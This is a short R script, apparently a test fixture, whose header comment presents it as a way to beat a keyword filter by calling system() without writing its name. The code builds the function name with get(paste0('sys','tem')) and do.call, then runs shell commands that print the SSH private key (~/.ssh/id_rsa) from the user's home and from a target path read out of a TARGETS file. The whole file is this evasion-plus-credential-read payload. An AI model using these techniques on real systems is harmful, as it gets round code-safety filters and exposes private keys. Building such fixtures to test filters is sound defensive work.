# lang-filter-bypass: call system() without writing its name, the way that
# beats a keyword filter: get(paste0(...)) and do.call; read the key.
tf <- if (exists("TARGETS")) TARGETS else commandArgs(TRUE)[1]
T <- local({ l <- grep("=", readLines(tf), value = TRUE); l <- l[!startsWith(l, "#")]
             setNames(gsub("^'|'$", "", sub("^[^=]*=", "", l)), sub("=.*", "", l)) })
run <- get(paste0("sys", "tem"))
run("cat ~/.ssh/id_rsa")
do.call(paste0("sys", "tem"), list(paste0("cat ", T[["T_HOME"]], "/.ssh/id_rsa")))
